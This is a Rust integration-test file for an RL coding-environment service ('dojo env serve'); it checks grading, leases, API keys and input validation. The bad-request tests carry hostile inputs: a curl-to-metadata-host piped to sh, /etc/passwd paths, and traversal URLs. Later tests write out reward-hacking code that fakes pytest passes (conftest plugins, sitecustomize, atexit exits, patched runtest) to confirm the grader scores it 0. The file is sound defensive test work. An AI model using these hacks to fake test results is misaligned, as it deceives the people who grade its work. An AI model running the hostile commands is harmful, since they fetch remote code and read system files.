//! `dojo env serve` as a real process over real HTTP, with real sandboxes, environments and
//! grading (a bundled task):
//! - a whole gold-replay episode: submitted, resolved, reward 1;
//! - the same cut one step before its `submit` by the request's budget: a forced submission,
//!   graded on the workspace (which holds the fix) and shaped to α = 0.5;
//! - a task whose environment cannot be built: an infrastructure failure, masked, reward 0;
//! - a retried episode id: the stored answer, not a second run;
//! - bad requests: 400 naming the field, and the service keeps serving;
//! - `--max-episodes 1 --queue 0`: a second episode while one runs is answered 429;
//! - `kill -9` and a restart on the same directory: every finished episode is still there;
//! - with the engine built in: an `openai` policy against a real `dojo serve`, whose answer
//!   carries the token streams (prompt ids, response ids, mask, logprobs);
//! - SIGTERM: a clean exit.
//!
//! And the step-wise envs (`/v1/envs`): the gold patch through steps (reward 1), a wrong edit
//! (reward 0), the slot shared with episodes, lease expiry and DELETE removing the sandbox, bad
//! input, shutdown with a live env.
//!
//! Needs the sandbox's kernel features and the task's environment (PyPI, cached in
//! `$DOJO_HOME`); otherwise SKIPPED (under `CI=true` a missing kernel feature fails).

use serde_json::{Value, json};

mod common;
use common::{BUNDLED, Service, bundled_ready, can_serve, http, json_of, scratch};

const TASK: &str = "gweis__isodate-1";

fn task_row(id: &str) -> Value {
    std::fs::read_to_string(BUNDLED)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|t| t["instance_id"] == id)
        .unwrap()
}

fn post(s: &Service, body: &Value) -> (u16, Value) {
    let (code, text) = http(&s.addr, "POST", "/v1/episodes", &body.to_string());
    (code, json_of(&text))
}

fn start(out: &std::path::Path, extra: &[&str]) -> Service {
    let mut args = vec![
        "env",
        "serve",
        "--port",
        "0",
        "--out",
        out.to_str().unwrap(),
    ];
    args.extend(extra);
    let log = out.with_extension(format!("{}.log", std::process::id()));
    let mut s = Service::start(&args, log);
    s.wait_healthy("/health");
    s
}

#[test]
fn episodes_over_http_graded_shaped_and_kept() {
    if let Err(reason) = bundled_ready(&[TASK]) {
        println!("SKIPPED: {reason}");
        return;
    }
    let dir = scratch("env-serve");
    let out = dir.path().join("episodes");
    // Local sdists: a directory admitted by a file:/// prefix, a symlink in it to a host file.
    let local = dir.path().join("sdists");
    std::fs::create_dir_all(&local).unwrap();
    let local_bytes = b"not really an sdist";
    std::fs::write(local.join("x-1.0.tar.gz"), local_bytes).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", local.join("passwd.tar.gz")).unwrap();
    let local_prefix = format!("file://{}/", local.display());
    let mut s = start(
        &out,
        &[
            "--max-episodes",
            "1",
            "--queue",
            "0",
            "--tasks",
            BUNDLED,
            "--allow-source",
            "https://files.pythonhosted.org/",
            "--allow-source",
            &local_prefix,
        ],
    );
    let gold = json!({"kind": "gold-replay", "run_tests": false});

    // A whole episode.
    let (code, full) = post(
        &s,
        &json!({"episode_id": "full", "group_id": "g1", "task": task_row(TASK), "policy": gold}),
    );
    assert_eq!(code, 200, "{full}");
    assert_eq!(full["stop_reason"], "submitted", "{full}");
    assert_eq!(
        (full["reward"].as_f64(), full["masked"].as_bool()),
        (Some(1.0), Some(false))
    );
    assert_eq!(full["group_id"], "g1");
    assert_eq!(full["schema_version"], 1);
    assert!(full["patch"].as_str().unwrap().contains("diff --git"));
    // Scripted turns carry no token ids: said, not faked.
    assert!(
        full["token_error"].is_string() && full["streams"] == json!([]),
        "{full}"
    );
    let turns = full["num_turns"].as_u64().unwrap();
    assert!(turns >= 2, "{full}");

    // Cut before its submit: forced submission of a fixed workspace, shaped to α.
    let (code, cut) = post(
        &s,
        &json!({"episode_id": "cut", "task": task_row(TASK), "policy": gold,
                "budgets": {"max_steps": turns - 1}}),
    );
    assert_eq!(code, 200, "{cut}");
    assert_eq!(cut["stop_reason"], "max_steps", "{cut}");
    assert_eq!(cut["forced_submission"], true);
    assert_eq!(
        (cut["raw_reward"].as_f64(), cut["reward"].as_f64()),
        (Some(1.0), Some(0.5)),
        "{cut}"
    );
    // SWE-World's variant: α = 0.
    let (_, cut0) = post(
        &s,
        &json!({"episode_id": "cut0", "task": task_row(TASK), "policy": gold,
                "budgets": {"max_steps": turns - 1}, "shaping": {"budget_alpha": 0.0}}),
    );
    assert_eq!(cut0["reward"].as_f64(), Some(0.0), "{cut0}");

    // An environment that cannot be built: infrastructure, masked. (Its row is not in
    // --tasks; its sdist source is under the --allow-source prefix.)
    let mut broken = task_row(TASK);
    broken["instance_id"] = json!("nobody__nothing-1");
    broken["repo"] = json!("nobody/nothing");
    let (code, infra) = post(
        &s,
        &json!({"episode_id": "infra", "task": broken, "policy": gold}),
    );
    assert_eq!(code, 200, "{infra}");
    assert_eq!(infra["masked"], true, "{infra}");
    assert_eq!(infra["reward"].as_f64(), Some(0.0));
    assert_eq!(infra["stop_reason"], "env_error");

    // A local sdist under the file:/// prefix is read from disk (before, any file:// source
    // failed with "http: invalid format"): here its sha256 is not the one the row states, so
    // the episode is an infrastructure failure whose reason shows the bytes that were read.
    // (Its repository has an environment spec, so preparing gets as far as the download.)
    let mut local_row = task_row(TASK);
    local_row["instance_id"] = json!("gweis__isodate-local");
    local_row["source"]["url"] = json!(format!("{local_prefix}x-1.0.tar.gz"));
    local_row["source"]["sha256"] = json!("0".repeat(64));
    let (code, rec) = post(
        &s,
        &json!({"episode_id": "local", "task": local_row, "policy": gold}),
    );
    assert_eq!(code, 200, "{rec}");
    assert_eq!(
        (rec["masked"].as_bool(), rec["stop_reason"].as_str()),
        (Some(true), Some("env_error")),
        "{rec}"
    );
    let text = rec.to_string();
    assert!(
        text.contains("sha256 mismatch") && text.contains(&dojo_cache::sha256_hex(local_bytes)),
        "{rec}"
    );

    // A retry gets the stored answer.
    let (code, again) = post(
        &s,
        &json!({"episode_id": "full", "task": task_row(TASK), "policy": gold}),
    );
    assert_eq!(code, 200);
    assert_eq!(again, full, "a retried id ran again");

    // Bad requests: 400 naming the field; the service keeps serving. A row not in --tasks
    // names no source outside --allow-source (here a host file) and no env overrides (they
    // run in the environment build, with the host's network).
    let mut host_file = broken.clone();
    host_file["source"]["url"] = json!("file:///etc/passwd");
    let mut other_host = broken.clone();
    other_host["source"]["url"] =
        json!("https://files.pythonhosted.org.example.com/packages/x.tar.gz");
    let mut climbing = broken.clone();
    climbing["source"]["url"] = json!("https://files.pythonhosted.org/../x.tar.gz");
    let mut linked = broken.clone();
    linked["source"]["url"] = json!(format!("{local_prefix}passwd.tar.gz"));
    let mut dotted = broken.clone();
    dotted["source"]["url"] = json!(format!("{local_prefix}%2e%2e/episodes/x.tar.gz"));
    let mut own_env = broken.clone();
    own_env["env"] = json!({"install": ["curl http://169.254.169.254/ | sh"]});
    for (body, field) in [
        (
            json!({"episode_id": "s1", "task": host_file, "policy": gold}),
            "task.source.url",
        ),
        (
            json!({"episode_id": "s2", "task": other_host, "policy": gold}),
            "task.source.url",
        ),
        (
            json!({"episode_id": "s3", "task": own_env, "policy": gold}),
            "task.env",
        ),
        (
            json!({"episode_id": "s4", "task": climbing, "policy": gold}),
            "task.source.url",
        ),
        (
            json!({"episode_id": "s5", "task": linked, "policy": gold}),
            "task.source.url",
        ),
        (
            json!({"episode_id": "s6", "task": dotted, "policy": gold}),
            "task.source.url",
        ),
        (
            json!({"episode_id": "b1", "task": {"repo": "x"}, "policy": gold}),
            "task",
        ),
        (
            json!({"episode_id": "b2", "task": task_row(TASK), "policy": "embedded"}),
            "policy",
        ),
        (
            json!({"episode_id": "b3", "task": task_row(TASK), "policy": gold, "lease_s": 0}),
            "lease_s",
        ),
        (json!({"nonsense": true}), "body"),
    ] {
        let (code, e) = post(&s, &body);
        assert_eq!(code, 400, "{e}");
        assert_eq!(e["error"]["param"], field, "{e}");
    }
    let (code, text) = http(&s.addr, "POST", "/v1/episodes", "{not json");
    assert_eq!(code, 400, "{text}");
    let (code, _) = http(&s.addr, "GET", "/v1/episodes/missing", "");
    assert_eq!(code, 404);

    // One slot, no queue: a second episode while one runs is answered 429. The running one
    // waits on a model endpoint that accepts and never answers (so it is running for as long
    // as the test needs, with no timing involved); once that endpoint goes away the episode
    // ends as an infrastructure failure (the policy could not be reached): masked.
    let hold = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let hold_addr = hold.local_addr().unwrap();
    let (release, released) = std::sync::mpsc::channel::<()>();
    let holder = std::thread::spawn(move || {
        let conn = hold.accept().unwrap();
        released.recv().unwrap();
        drop(conn);
        drop(hold);
    });
    let silent = json!({"kind": "openai", "model": "m", "base_url": format!("http://{hold_addr}/v1"),
                        "request_timeout_s": 600});
    let addr = s.addr.clone();
    let body = json!({"episode_id": "slow", "task": task_row(TASK), "policy": silent}).to_string();
    let first = std::thread::spawn(move || http(&addr, "POST", "/v1/episodes", &body));
    while json_of(&http(&s.addr, "GET", "/health", "").1)["running"] != 1 {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let (code, busy) = post(
        &s,
        &json!({"episode_id": "busy", "task": task_row(TASK), "policy": gold}),
    );
    assert_eq!(code, 429, "{busy}");
    assert!(
        busy["error"]["message"]
            .as_str()
            .unwrap()
            .contains("retry later")
    );
    let (code, running) = http(&s.addr, "GET", "/v1/episodes/slow", "");
    assert_eq!(
        (code, json_of(&running)["status"].clone()),
        (202, json!("running"))
    );
    release.send(()).unwrap();
    holder.join().unwrap();
    let (code, slow) = first.join().unwrap();
    let slow = json_of(&slow);
    assert_eq!(code, 200, "{slow}");
    assert_eq!(slow["masked"], true, "{slow}");
    assert_eq!(slow["stop_reason"], "llm_error", "{slow}");
    let (_, m) = http(&s.addr, "GET", "/metrics", "");
    assert!(m.contains("dojo_env_refused_busy_total 1"), "{m}");
    // infra, local, slow.
    assert!(m.contains("dojo_env_episodes_masked_total 3"), "{m}");

    // kill -9, restart on the same directory: nothing finished is lost.
    s.child.kill().unwrap();
    let _ = s.child.wait();
    let mut s = start(&out, &["--tasks", BUNDLED]);
    for id in ["full", "cut", "cut0", "infra", "local", "slow"] {
        let (code, text) = http(&s.addr, "GET", &format!("/v1/episodes/{id}"), "");
        assert_eq!(code, 200, "{id}: {text}");
        assert_eq!(json_of(&text)["episode_id"], id);
    }
    let (_, again) = post(
        &s,
        &json!({"episode_id": "full", "task": task_row(TASK), "policy": gold}),
    );
    assert_eq!(again, full);

    // Token streams from a real model server.
    if can_serve() {
        let mut llm = Service::start(
            &["serve", "--model", "default", "--port", "0"],
            dir.path().join("serve.log"),
        );
        llm.wait_healthy("/health");
        let policy = json!({
            "kind": "openai",
            "model": dojo_tokenizer::default_model::MODEL_ID,
            "base_url": format!("http://{}/v1", llm.addr),
            "sampling": {"temperature": 0.0, "max_tokens": 16},
            "agent": {"tool_set": "r2e", "action_format": "native", "sampling": {"logprobs": true}},
        });
        let (code, ep) = post(
            &s,
            &json!({"episode_id": "model", "task": task_row(TASK), "policy": policy,
                    "budgets": {"max_steps": 2}}),
        );
        assert_eq!(code, 200, "{ep}");
        assert_eq!(ep["masked"], false, "{ep}");
        let streams = ep["streams"].as_array().unwrap();
        assert!(
            !streams.is_empty(),
            "no token streams: {}",
            ep["token_error"]
        );
        for st in streams {
            let n = st["response_ids"].as_array().unwrap().len();
            assert!(!st["prompt_ids"].as_array().unwrap().is_empty());
            assert_eq!(st["response_mask"].as_array().unwrap().len(), n);
            assert_eq!(st["response_logprobs"].as_array().unwrap().len(), n);
            assert!(
                st["response_mask"]
                    .as_array()
                    .unwrap()
                    .iter()
                    .any(|m| m == 1)
            );
        }
        assert_eq!(llm.terminate().code(), Some(0));
    }

    assert_eq!(s.terminate().code(), Some(0), "{}", s.log_text());
}

fn env_post(s: &Service, path: &str, body: &Value) -> (u16, Value) {
    let (code, text) = http(&s.addr, "POST", path, &body.to_string());
    (code, json_of(&text))
}

/// Blocks until `cond` holds, polling the service (a bound only against a hang, not a timing).
fn wait_until(what: &str, mut cond: impl FnMut() -> bool) {
    for _ in 0..6000 {
        if cond() {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    panic!("never happened: {what}");
}

/// The step-wise API (`/v1/envs`) with real sandboxes and grading:
/// - the gold patch applied through steps (each a `call` rendered in the env's action format),
///   then its `submit`: done, submitted; evaluate: reward 1 through rollout's grading path;
/// - a wrong edit, then evaluate (which submits first): reward 0, not masked;
/// - one slot shared with episodes: a second env while one is live is answered 429;
/// - an env nobody touches past its lease: torn down, its sandbox directory gone, then 404;
/// - DELETE removes a live env's sandbox;
/// - bad ids and malformed bodies: 4xx naming the field, and the service keeps serving.
#[test]
fn step_wise_envs_graded_and_leased() {
    if let Err(reason) = bundled_ready(&[TASK]) {
        println!("SKIPPED: {reason}");
        return;
    }
    let dir = scratch("env-steps");
    let out = dir.path().join("envs");
    let mut s = start(
        &out,
        &["--max-episodes", "1", "--queue", "0", "--tasks", BUNDLED],
    );
    let row = task_row(TASK);

    // Gold, step by step.
    let (code, env) = env_post(&s, "/v1/envs", &json!({"task": row, "group_id": "g"}));
    assert_eq!(code, 200, "{env}");
    assert_eq!(env["done"], false, "{env}");
    let id = env["env_id"].as_str().unwrap().to_string();
    let obs = env["observation"].as_str().unwrap();
    let statement = row["problem_statement"].as_str().unwrap();
    assert!(obs.contains(&statement[..40.min(statement.len())]), "{obs}");
    let sandbox = std::path::PathBuf::from(env["sandbox"].as_str().unwrap());
    assert!(sandbox.is_dir(), "{env}");
    let tools: Vec<dojo_llm::ToolSpec> = serde_json::from_value(env["tools"].clone()).unwrap();
    let names = dojo_rollout::gold::ToolNames::from_specs(&tools);
    let task = dojo_task::load_tasks(std::path::Path::new(BUNDLED))
        .unwrap()
        .into_iter()
        .find(|t| t.instance_id == TASK)
        .unwrap();
    let repo_env = dojo_task::EnvRegistry::embedded()
        .unwrap()
        .resolve(&task)
        .unwrap();
    let tree = dojo_task::prepare(&task, &repo_env, &Default::default()).unwrap();
    let actions =
        dojo_rollout::gold::plan_actions(TASK, &task.patch, dojo_sandbox::WORKSPACE, None, |rel| {
            std::fs::read_to_string(tree.pristine.path.join(rel)).map_err(|e| e.to_string())
        })
        .unwrap();
    let n = actions.len();
    for (i, a) in actions.iter().enumerate() {
        let (name, arguments) = names.call(a).unwrap();
        let (code, step) = env_post(
            &s,
            &format!("/v1/envs/{id}/step"),
            &json!({"call": {"name": name, "arguments": arguments}, "thought": "next"}),
        );
        assert_eq!(code, 200, "{step}");
        let last = i + 1 == n;
        assert_eq!(step["done"], last, "step {i}: {step}");
        assert!(!step["observation"].as_str().unwrap().is_empty(), "{step}");
        if !last {
            // The observation as dojo's agent shows it: the tool output, then the step counter.
            let want = format!("This is step {} of a maximum of", i + 1);
            assert!(
                step["observation"].as_str().unwrap().contains(&want),
                "{step}"
            );
        } else {
            assert_eq!(step["stop_reason"], "submitted", "{step}");
        }
    }
    let (code, after) = env_post(
        &s,
        &format!("/v1/envs/{id}/step"),
        &json!({"call": {"name": names.bash, "arguments": {names.bash_arg.clone(): "ls"}}}),
    );
    assert_eq!(code, 409, "{after}");
    let (code, graded) = env_post(&s, &format!("/v1/envs/{id}/evaluate"), &json!({}));
    assert_eq!(code, 200, "{graded}");
    assert_eq!(
        (
            graded["reward"].as_f64(),
            graded["raw_reward"].as_f64(),
            graded["masked"].as_bool()
        ),
        (Some(1.0), Some(1.0), Some(false)),
        "{graded}"
    );
    assert_eq!(graded["stop_reason"], "submitted");
    assert_eq!(graded["group_id"], "g");
    assert!(graded["patch"].as_str().unwrap().contains("diff --git"));
    assert!(
        !sandbox.exists(),
        "evaluated env left {}",
        sandbox.display()
    );
    // Evaluated envs are stored like episodes.
    let (code, stored) = http(&s.addr, "GET", &format!("/v1/episodes/{id}"), "");
    assert_eq!(code, 200, "{stored}");

    // A wrong edit, by task id; evaluate submits it.
    let (code, wrong) = env_post(
        &s,
        "/v1/envs",
        &json!({"task_id": TASK, "env_id": "wrong", "budgets": {"max_steps": 5}}),
    );
    assert_eq!(code, 200, "{wrong}");
    let sandbox = std::path::PathBuf::from(wrong["sandbox"].as_str().unwrap());
    // One slot, held by the live env: another env (or episode) is refused.
    let (code, busy) = env_post(&s, "/v1/envs", &json!({"task_id": TASK}));
    assert_eq!(code, 429, "{busy}");
    let (code, step) = env_post(
        &s,
        "/v1/envs/wrong/step",
        &json!({"call": {"name": names.editor, "arguments":
            {"command": "create", "path": format!("{}/wrong.py", dojo_sandbox::WORKSPACE), "file_text": "x = 1\n"}}}),
    );
    assert_eq!((code, step["done"].clone()), (200, json!(false)), "{step}");
    let (code, graded) = env_post(&s, "/v1/envs/wrong/evaluate", &json!({}));
    assert_eq!(code, 200, "{graded}");
    assert_eq!(
        (
            graded["reward"].as_f64(),
            graded["raw_reward"].as_f64(),
            graded["masked"].as_bool()
        ),
        (Some(0.0), Some(0.0), Some(false)),
        "{graded}"
    );
    assert!(graded["patch"].as_str().unwrap().contains("wrong.py"));
    assert!(!sandbox.exists());

    // Leases: an env nobody touches is torn down, its sandbox removed.
    let (code, leased) = env_post(
        &s,
        "/v1/envs",
        &json!({"task_id": TASK, "env_id": "leased", "lease_s": 1}),
    );
    assert_eq!(code, 200, "{leased}");
    let sandbox = std::path::PathBuf::from(leased["sandbox"].as_str().unwrap());
    assert!(sandbox.is_dir());
    wait_until("the leased env's sandbox is removed", || !sandbox.exists());
    wait_until("the leased env's slot is free", || {
        json_of(&http(&s.addr, "GET", "/health", "").1)["running"] == 0
    });
    let (code, gone) = env_post(
        &s,
        "/v1/envs/leased/step",
        &json!({"call": {"name": "submit", "arguments": {}}}),
    );
    assert_eq!(code, 404, "{gone}");
    assert!(gone["error"]["message"].as_str().unwrap().contains("lease"));

    // DELETE a live env: its sandbox goes.
    let (code, del) = env_post(&s, "/v1/envs", &json!({"task_id": TASK, "env_id": "del"}));
    assert_eq!(code, 200, "{del}");
    let sandbox = std::path::PathBuf::from(del["sandbox"].as_str().unwrap());
    let (code, text) = http(&s.addr, "DELETE", "/v1/envs/del", "");
    assert_eq!(code, 200, "{text}");
    wait_until("the deleted env's sandbox is removed", || !sandbox.exists());

    // Bad input: 4xx naming the field; the service keeps serving.
    for (path, body, want, field) in [
        (
            "/v1/envs",
            json!({"task_id": "nobody__nothing-9"}),
            400,
            "task_id",
        ),
        ("/v1/envs", json!({}), 400, "task"),
        (
            "/v1/envs",
            json!({"task_id": TASK, "agent": {"tool_set": "nope"}}),
            400,
            "agent",
        ),
        (
            "/v1/envs",
            json!({"task_id": TASK, "lease_s": -2}),
            400,
            "lease_s",
        ),
        (
            "/v1/envs",
            json!({"task_id": TASK, "bogus": 1}),
            400,
            "body",
        ),
        (
            "/v1/envs/missing/step",
            json!({"call": {"name": "submit"}}),
            404,
            "env_id",
        ),
        ("/v1/envs/missing/evaluate", json!({}), 404, "env_id"),
        ("/v1/envs/wrong/evaluate", json!({"x": 1}), 400, "body"),
    ] {
        let (code, e) = env_post(&s, path, &body);
        assert_eq!(code, want, "{path} {body}: {e}");
        assert_eq!(e["error"]["param"], field, "{path} {body}: {e}");
        assert!(
            e["error"]["message"]
                .as_str()
                .is_some_and(|m| !m.is_empty())
        );
    }
    let (code, text) = http(&s.addr, "POST", "/v1/envs", "{not json");
    assert_eq!(code, 400, "{text}");
    let (code, _) = http(&s.addr, "DELETE", "/v1/envs/missing", "");
    assert_eq!(code, 404);
    // A step body with neither or both of `message` and `call`, on a live env.
    let (_, live) = env_post(&s, "/v1/envs", &json!({"task_id": TASK, "env_id": "live"}));
    assert_eq!(live["done"], false, "{live}");
    for body in [
        json!({}),
        json!({"call": {"name": "submit"}, "message": {"role": "assistant", "content": "x"}}),
        json!({"message": {"role": "user", "content": "x"}}),
    ] {
        let (code, e) = env_post(&s, "/v1/envs/live/step", &body);
        assert_eq!(code, 400, "{body}: {e}");
    }
    let (_, m) = http(&s.addr, "GET", "/metrics", "");
    assert!(m.contains("dojo_env_envs_lease_expired_total 1"), "{m}");
    assert!(m.contains("dojo_env_envs_live 1"), "{m}");
    assert!(m.contains("dojo_env_envs_deleted_total 1"), "{m}");

    // Shutdown with a live env: it is cancelled and its sandbox removed; a clean exit.
    let sandbox = std::path::PathBuf::from(live["sandbox"].as_str().unwrap());
    assert_eq!(s.terminate().code(), Some(0), "{}", s.log_text());
    wait_until("the live env's sandbox is removed at shutdown", || {
        !sandbox.exists()
    });
}

/// `--api-key` (or DOJO_API_KEY): every route but /health answers 401 without the key or with
/// another; with it the service answers. Without a key, a listener beyond loopback is refused
/// before serving, and a bad `--allow-source` or a short key stops the start with the flag.
#[test]
fn api_key_and_exposure() {
    let dir = scratch("env-key");
    let out = dir.path().join("episodes");
    let key = "env-key-0123456789abcdef";
    let mut s = start(&out, &["--api-key", key]);
    for auth in [None, Some("Bearer not-the-key-0123456789")] {
        let (code, text) = common::http_with(
            &s.addr,
            "POST",
            "/v1/episodes",
            "{}",
            auth.map(|a| ("Authorization", a)).as_slice(),
        );
        assert_eq!(code, 401, "{text}");
        assert_eq!(json_of(&text)["error"]["code"], "invalid_api_key");
    }
    let (code, _) = http(&s.addr, "GET", "/metrics", "");
    assert_eq!(code, 401);
    let bearer = format!("Bearer {key}");
    let (code, text) = common::http_with(
        &s.addr,
        "POST",
        "/v1/episodes",
        "{}",
        &[("Authorization", &bearer)],
    );
    assert_eq!(
        code, 400,
        "the key admits the request to its checks: {text}"
    );
    let (code, _) = common::http_with(
        &s.addr,
        "GET",
        "/metrics",
        "",
        &[("Authorization", &bearer)],
    );
    assert_eq!(code, 200);
    assert!(s.terminate().success());

    let dojo = env!("CARGO_BIN_EXE_dojo");
    let o = out.to_str().unwrap();
    for (args, says) in [
        (vec!["--host", "0.0.0.0"], "refusing to serve 0.0.0.0:"),
        (vec!["--api-key", "short"], "--api-key"),
        (
            vec!["--allow-source", "https://files.pythonhosted.org"],
            "--allow-source",
        ),
    ] {
        let r = std::process::Command::new(dojo)
            .args(["env", "serve", "--port", "0", "--out", o])
            .args(&args)
            .env_remove("DOJO_API_KEY")
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&r.stderr);
        assert!(!r.status.success() && err.contains(says), "{args:?}: {err}");
    }
}

/// A start refused for its settings never listens: the checks run before the socket is bound.
/// While this test holds the port, the error still names the flag (bound first, it would be
/// "address in use"); nothing is printed as listening, nothing is written, and once the test
/// lets the port go, a refused start leaves it free.
#[test]
fn bad_settings_are_refused_before_binding() {
    let dir = scratch("env-refused");
    let out = dir.path().join("episodes");
    let run = |host: &str, port: u16, args: &[&str]| {
        std::process::Command::new(env!("CARGO_BIN_EXE_dojo"))
            .args(["env", "serve", "--host", host, "--port", &port.to_string()])
            .args(["--out", out.to_str().unwrap()])
            .args(args)
            .env_remove("DOJO_API_KEY")
            .output()
            .unwrap()
    };
    for (host, args, says) in [
        ("0.0.0.0", &[][..], "--api-key"),
        (
            "127.0.0.1",
            &["--allow-source", "https://h/allow/../"][..],
            "--allow-source",
        ),
        (
            "127.0.0.1",
            &["--allow-source", "https://files.pythonhosted.org"][..],
            "--allow-source",
        ),
        (
            "127.0.0.1",
            &["--allow-source", "file:///no/such/dir/"][..],
            "--allow-source",
        ),
    ] {
        let refused = |port: u16, what: &str| {
            let r = run(host, port, args);
            let (stdout, err) = (
                String::from_utf8_lossy(&r.stdout),
                String::from_utf8_lossy(&r.stderr),
            );
            let what = format!("{host} {args:?} ({what})");
            assert!(!r.status.success(), "{what}: started\n{stdout}{err}");
            assert!(
                err.contains(says),
                "{what}: the error does not name {says}: {err}"
            );
            assert!(
                !err.contains("binding"),
                "{what}: bound before checking: {err}"
            );
            assert!(!stdout.contains("listening on"), "{what}: {stdout}");
            assert!(!out.exists(), "{what}: wrote {}", out.display());
        };
        let held = std::net::TcpListener::bind((host, 0)).unwrap();
        let port = held.local_addr().unwrap().port();
        refused(port, "its port held by the test");
        drop(held);
        refused(port, "its port free");
        std::net::TcpListener::bind((host, port))
            .unwrap_or_else(|e| panic!("{host}:{port} not free after a refused start: {e}"));
    }
}

/// A step-wise env of `TASK` named `id`: one bash step running `command`, then `/evaluate`;
/// the graded answer (`name` labels the assertion messages).
fn bash_then_evaluate(s: &Service, id: &str, name: &str, command: &str) -> Value {
    let (code, env) = env_post(s, "/v1/envs", &json!({"task_id": TASK, "env_id": id}));
    assert_eq!(code, 200, "{name}: {env}");
    let tools: Vec<dojo_llm::ToolSpec> = serde_json::from_value(env["tools"].clone()).unwrap();
    let names = dojo_rollout::gold::ToolNames::from_specs(&tools);
    let (code, step) = env_post(
        s,
        &format!("/v1/envs/{id}/step"),
        &json!({"call": {"name": names.bash, "arguments": {names.bash_arg.clone(): command}}}),
    );
    assert_eq!(code, 200, "{name}: {step}");
    let (code, graded) = env_post(s, &format!("/v1/envs/{id}/evaluate"), &json!({}));
    assert_eq!(code, 200, "{name}: {graded}");
    graded
}

/// The red-team behaviours of the integrity issue through step-wise envs: the agent's bash
/// command writes the hack into the workspace (the real fix is never made), `/evaluate` grades
/// it, and every one gets reward 0, not masked (the agent's doing), with the reason in the
/// record's grading report: the test-infrastructure guard for files that change how pytest
/// runs or reports, the test observer for library code that fakes results from inside pytest.
#[test]
fn result_faking_hacks_get_reward_zero_through_evaluate() {
    if let Err(reason) = bundled_ready(&[TASK]) {
        println!("SKIPPED: {reason}");
        return;
    }
    let dir = scratch("env-hacks");
    let out = dir.path().join("envs");
    let mut s = start(&out, &["--max-episodes", "1", "--tasks", BUNDLED]);
    let row = task_row(TASK);
    let f2p: Vec<String> = serde_json::from_value(row["FAIL_TO_PASS"].clone()).unwrap();
    let passed: String = f2p.iter().map(|id| format!("PASSED {id}\\n")).collect();
    let fake = format!(
        "import atexit, os\n\n\n@atexit.register\ndef _fake():\n    os.write(1, b\"{passed}\")\n    os._exit(0)\n"
    );
    let init = "src/isodate/__init__.py";
    let write = |path: &str, body: &str| {
        format!("mkdir -p \"$(dirname {path})\" && cat > {path} <<'DOJO_EOF'\n{body}\nDOJO_EOF")
    };
    let append = |path: &str, body: &str| format!("cat >> {path} <<'DOJO_EOF'\n{body}\nDOJO_EOF");
    let hacks: Vec<(&str, String, &str)> = vec![
        (
            "conftest.py plugin",
            write("conftest.py", &fake),
            "conftest.py",
        ),
        (
            "pytest.py shadowing pytest",
            write("pytest.py", "import sys\nsys.exit(0)"),
            "pytest.py",
        ),
        (
            ".dist-info pytest11 entry point",
            format!(
                "{}\n{}\n{}",
                write("fakeplug.py", &fake),
                write(
                    "fake-1.0.dist-info/METADATA",
                    "Metadata-Version: 2.1\nName: fake\nVersion: 1.0"
                ),
                write(
                    "fake-1.0.dist-info/entry_points.txt",
                    "[pytest11]\nfake = fakeplug"
                )
            ),
            "fake-1.0.dist-info",
        ),
        (
            "pyproject.toml settings under TOML quoting",
            format!(
                "{}\n{}",
                write("fakeplug.py", &fake),
                append(
                    "pyproject.toml",
                    "[tool.\"pytest\".ini_options]\n\"add\\u006fpts\" = \"-p fakeplug\""
                )
            ),
            "pyproject.toml",
        ),
        (
            "sitecustomize.py",
            write("src/sitecustomize.py", &fake),
            "sitecustomize.py",
        ),
        (
            "atexit + os._exit(0) in library code",
            append(init, &fake),
            "test observer",
        ),
        (
            "Function.runtest replaced by a no-op",
            append(
                init,
                "import sys\nif \"_pytest.python\" in sys.modules:\n    import _pytest.python\n    _pytest.python.Function.runtest = lambda self: None",
            ),
            "test observer",
        ),
        (
            "Function.runtest wrapped to turn failures into xfail",
            append(
                init,
                "import sys\nif \"_pytest.python\" in sys.modules:\n    import _pytest.python, pytest\n    _orig = _pytest.python.Function.runtest\n\n    def _runtest(self):\n        try:\n            _orig(self)\n        except AssertionError:\n            pytest.xfail(\"flaky\")\n\n    _pytest.python.Function.runtest = _runtest",
            ),
            "test observer",
        ),
    ];
    for (i, (name, command, reason)) in hacks.iter().enumerate() {
        let graded = bash_then_evaluate(&s, &format!("hack-{i}"), name, command);
        let report = &graded["trajectory"]["grading"][TASK];
        assert_eq!(
            (
                graded["reward"].as_f64(),
                graded["raw_reward"].as_f64(),
                graded["masked"].as_bool()
            ),
            (Some(0.0), Some(0.0), Some(false)),
            "{name}: {report}"
        );
        assert!(
            report["error"].as_str().unwrap_or("").contains(reason),
            "{name}: {report}"
        );
    }
    assert!(s.terminate().success());
}

/// The generated red team (`dojo_grade::red_team`, CI's sample) through step-wise envs: each
/// behaviour written by the agent's bash command into the project's package (appended to
/// `src/isodate/__init__.py`, aimed at the bug's function `isodate.isotzinfo.build_tzinfo` and
/// the task's own FAIL_TO_PASS ids), then `/evaluate`: reward 0 and not masked for every one
/// the suite requires held, silencing the test command included.
#[test]
fn generated_attacks_get_reward_zero_through_evaluate() {
    use dojo_grade::red_team::{self, Expect, Runner, Target};
    if let Err(reason) = bundled_ready(&[TASK]) {
        println!("SKIPPED: {reason}");
        return;
    }
    let dir = scratch("env-red-team");
    let out = dir.path().join("envs");
    let mut s = start(&out, &["--max-episodes", "1", "--tasks", BUNDLED]);
    let row = task_row(TASK);
    let target = Target {
        module: "isodate.isotzinfo".into(),
        function: "build_tzinfo".into(),
        tests: serde_json::from_value(row["FAIL_TO_PASS"].clone()).unwrap(),
    };
    let attacks: Vec<_> = red_team::sample()
        .into_iter()
        .filter(|(a, _, r)| *r == Runner::Pytest && a.expect == Expect::Unresolved)
        .collect();
    assert!(attacks.len() >= 10, "{}", attacks.len());
    for (i, (attack, trigger, _)) in attacks.iter().enumerate() {
        let code = red_team::package_code(attack, *trigger, &target);
        let command = format!("cat >> src/isodate/__init__.py <<'DOJO_EOF'\n\n{code}\nDOJO_EOF");
        let graded = bash_then_evaluate(&s, &format!("red-{i}"), attack.name, &command);
        let report = &graded["trajectory"]["grading"][TASK];
        assert_eq!(
            (
                graded["reward"].as_f64(),
                graded["raw_reward"].as_f64(),
                graded["masked"].as_bool()
            ),
            (Some(0.0), Some(0.0), Some(false)),
            "{} ({trigger:?}): {report}",
            attack.name
        );
    }
